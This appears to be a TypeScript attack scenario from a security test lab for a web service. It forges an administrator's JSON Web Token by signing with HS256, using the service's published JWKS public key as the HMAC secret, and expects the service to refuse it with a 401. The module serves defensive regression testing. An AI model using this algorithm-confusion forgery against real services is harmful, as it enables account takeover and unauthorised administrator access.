import { createPublicKey } from 'node:crypto'
import { forged, partsOf } from '../lab/forge.js'
import type { Attack } from '../lab/attack.js'

export default {
  title: "Sign an admin's token with the published key",
  risk: 'API2',
  cwe: 327,
  concern: 'tokens',
  story: 'The service publishes the key by which its signatures are checked. Mallory signs with HS256 and takes this key for the secret: who lets the token choose the algorithm checks with just that.',
  defence: 'A key has one algorithm, and a header of another is not one of the service. By default nothing is published, as nobody else checks.',
  refusal: { status: 401, code: 'FST_BASTION_TOKENS_INVALID' },
  async run ({ step, ask, signIn, person }) {
    const mallory = await person()
    const { header, claims } = partsOf(mallory.token)
    const { id } = await signIn('admin')
    step('The published key')
    const { body: { keys: [jwk] } } = await ask('GET', '/.well-known/jwks.json')
    const secret = jwk === undefined ? '' : createPublicKey({ key: jwk, format: 'jwk' }).export({ type: 'spki', format: 'pem' }).toString()
    step("The admin's token, signed with it, or with nothing where none is published")
    const decisive = await ask('GET', '/users/me', { token: forged({ ...header, alg: 'HS256' }, { ...claims, sub: id }, secret) })
    const succeeded = decisive.status === 200 && decisive.body.username === 'admin'
    return { succeeded, decisive, evidence: succeeded ? 'Signed with what everybody may read: the service greets the admin' : 'No published text is a secret' }
  },
} satisfies Attack
